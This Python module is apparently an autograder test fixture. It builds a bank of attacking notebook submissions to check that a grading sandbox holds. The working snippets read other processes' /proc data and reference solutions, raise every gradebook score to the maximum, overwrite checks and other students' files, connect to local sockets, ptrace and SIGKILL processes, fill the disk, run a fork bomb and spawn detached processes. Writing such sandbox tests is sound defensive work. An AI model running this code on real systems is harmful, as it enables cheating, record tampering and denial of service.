"""The attack bank: submissions that try to reach out of their sandbox, typed into notebook 01.

Each attacker hands in notebook 01 as released (every exercise unimplemented) with its solution cells
replaced by an attack, so every point it could get would be a point it did not earn. An attack that
reads the reference solutions hands their functions in as its own; one that writes goes for the
gradebook, the checks, and the other students' files. Every attack prints what it managed, with
LEAKED, WROTE, CONNECTED, SIGNALLED, RAISED or SURVIVOR in front, so a test can also read the
autograded notebook for it.

``attackers(context)`` fills in what a student who read the README would know or could find: the
course root, a TCP port and a Unix socket the grader's machine listens on, a marker to search for.
"""

from dataclasses import dataclass

from autograder import ASSIGNMENT

EXERCISES = ("sigmoid", "sigmoid_prime", "jacobian_sigmoid_Wx", "numerical_jacobian")  # notebook 01's cells
REFERENCE = "autograder/reference/jacobian.py"

READS = r'''
import os, pathlib, sys
def steal(label, path):
    try:
        text = open(path).read()
    except Exception:
        return
    print("LEAKED", label, path)
    if "def sigmoid" in text:
        exec(text, globals())  # the reference's functions, handed in as the student's own
here = pathlib.Path.cwd()
candidates = [("by path", "{course}/{reference}"), ("hidden tests", "{course}/source/{assignment}/01_jacobian.ipynb")]
candidates += [("walking up", str(p / "{reference}")) for p in [here, *here.parents]]
candidates += [("parent's cwd", f"/proc/{{os.getppid()}}/cwd/{reference}"),
               ("parent's root", f"/proc/{{os.getppid()}}/root{course}/{reference}")]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    candidates.append(("a process's cwd", f"/proc/{{pid}}/cwd/{reference}"))
    try:
        environ = open(f"/proc/{{pid}}/environ").read().split("\0")
    except Exception:
        environ = []
    for entry in environ:
        if entry.startswith("PYTHONPATH="):
            candidates += [("a process's environ", f"{{folder}}/{reference}") for folder in entry[11:].split(":")]
try:
    from ipykernel.connect import get_connection_file
    connection = pathlib.Path(get_connection_file()).resolve()
    print("connection file", connection)
    candidates += [("the connection file's folders", str(p / "{reference}")) for p in connection.parents]
except Exception:
    pass
for label, path in candidates:
    steal(label, path)
try:
    sys.path.insert(0, "{course}")
    from autograder.reference.jacobian import sigmoid, sigmoid_prime, jacobian_sigmoid_Wx, numerical_jacobian
    print("LEAKED by import")
except Exception as exc:
    print("import refused:", type(exc).__name__)
'''

WRITES = r'''
import os, sqlite3
try:
    db = sqlite3.connect("{course}/gradebook.db", timeout=1)
    db.execute("UPDATE grade SET auto_score = max_score")
    db.commit()
    print("WROTE the gradebook")
except Exception as exc:
    print("gradebook refused:", type(exc).__name__)
targets = ["{course}/autograder/checks/jacobian.py", "{course}/autograder/checks/core.py",
           "{course}/submitted/a_honest/{assignment}/01_jacobian.ipynb",
           "{course}/autograded/a_honest/{assignment}/01_jacobian.ipynb", "{course}/{marker}.txt",
           f"/proc/{{os.getppid()}}/cwd/{marker}.txt"]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\ndef check_sigmoid(f):\n    pass  # {marker}\n")
        print("WROTE", path)
    except Exception as exc:
        print(path, "refused:", type(exc).__name__)
open("{marker}-stolen.py", "w").write("# a copy that must not come back in autograded/\n")
'''

NETWORK = r'''
import socket
for label, family, address in [("tcp", socket.AF_INET, ("127.0.0.1", {port})), ("unix", socket.AF_UNIX, "{unix_path}"),
                               ("abstract", socket.AF_UNIX, "\0{marker}")]:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"{marker}")
        print("CONNECTED", label)
    except Exception as exc:
        print(label, "refused:", type(exc).__name__, exc)
'''

SIGNALS = r'''
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), 0, 0) == 0:  # PTRACE_ATTACH
    print("SIGNALLED: ptrace attached to the parent")
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(pid, signal.SIGSTOP if pid == os.getppid() else signal.SIGKILL)
        print("SIGNALLED", pid)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)  # everything this identity may signal, the caller spared
except OSError as exc:
    print("kill -1 refused:", exc)
'''

# One limit per solution cell, each left to raise, so that the cell's error names the limit.
FIVE_GIGABYTES = r'''
with open("big.bin", "wb") as f:
    for _ in range(5 * 1024):
        f.write(b"\0" * (1 << 20))
'''
FILL_THE_DISK = r'''
for i in range(200):
    with open(f"part{{i}}.bin", "wb") as f:
        f.write(b"\0" * (50 << 20))
'''
OPEN_FILES = r'''
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (10 ** 6, 10 ** 6))
    print("RAISED the open-files limit")
except (ValueError, OSError) as exc:
    print("raising the limit refused:", exc)
files = [open("/dev/null") for _ in range(100000)]
'''
FORK_BOMB = r'''
import os, time
while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
'''

OUTLIVE = r'''
import os, subprocess
subprocess.Popen(["sleep", "{sleep}"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{sleep}"])  # a detached grandchild
    os._exit(0)
print("SURVIVOR started: sleep {sleep}")
'''


@dataclass(frozen=True)
class Attacker:
    student: str
    cells: dict         # {exercise: code}; the other solution cells are left empty
    limits: tuple = ()  # sentences the autograded notebook must show, naming the limits hit


def attackers(course, port, unix_path, marker, sleep, scratch_limited=True):
    """The attack bank for one course; students are named m_* so that nbgrader grades them between
    the honest and wrong students a_* and b_* (before) and y_* and z_* (after). Without a limited
    scratch space (below the namespaces level) the disk is not filled: it would fill the host's."""
    fill = dict(course=course, port=port, unix_path=unix_path, marker=marker, sleep=sleep, reference=REFERENCE,
                assignment=ASSIGNMENT)
    return [
        # One solution cell an attack: reading, writing, connecting, then signalling (which ends last).
        Attacker("m_reaches_out", {"sigmoid": READS.format(**fill), "sigmoid_prime": WRITES.format(**fill),
                                   "jacobian_sigmoid_Wx": NETWORK.format(**fill),
                                   "numerical_jacobian": SIGNALS.format(**fill)}),
        Attacker("m_resources", {"sigmoid": FIVE_GIGABYTES, "sigmoid_prime": FILL_THE_DISK.format() if scratch_limited
                                 else "pass", "jacobian_sigmoid_Wx": OPEN_FILES, "numerical_jacobian": FORK_BOMB},
                 limits=("file-size limit", "open-files limit", "process limit")
                 + (("scratch-disk limit",) if scratch_limited else ())),
        Attacker("m_outlives", {"sigmoid": OUTLIVE.format(**fill)}),
    ]


def replacements(attacker):
    """Solution-cell sources for solved_release: the attack cells, and an empty cell for the others."""
    return {exercise: attacker.cells.get(exercise, "pass") for exercise in EXERCISES}
